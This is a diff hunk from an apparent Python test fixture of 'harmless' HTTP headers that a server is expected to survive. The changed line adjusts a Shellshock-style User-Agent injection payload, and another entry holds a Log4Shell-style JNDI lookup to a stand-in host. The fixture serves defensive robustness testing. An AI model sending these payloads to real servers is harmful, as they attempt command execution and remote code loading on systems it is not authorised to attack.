@@ -193,7 +193,7 @@ HARMLESS_HEADERS: dict[str, Headers] = {
     "ten thousand letters of cookie": [("Cookie", "session=" + "a" * 10_000)],
     "two hundred headers": [(f"X-{number}", MARK) for number in range(200)],
     "a header of 60 KB": [("X-Long", "a" * 60_000)],
-    "a shellshock": [("User-Agent", "() { :; }; touch /tmp/" + MARK)],
+    "a shellshock": [("User-Agent", "() { :; }; touch /var/" + MARK)],
     "a lookup": [("User-Agent", f"${{jndi:ldap://owned.example/{MARK}}}")],
     "bytes that are no text": [("User-Agent", b"\xff\xfe" + MARK.encode())],
     "a forged log line": [("User-Agent", f"x\t\tINFO {MARK}")],
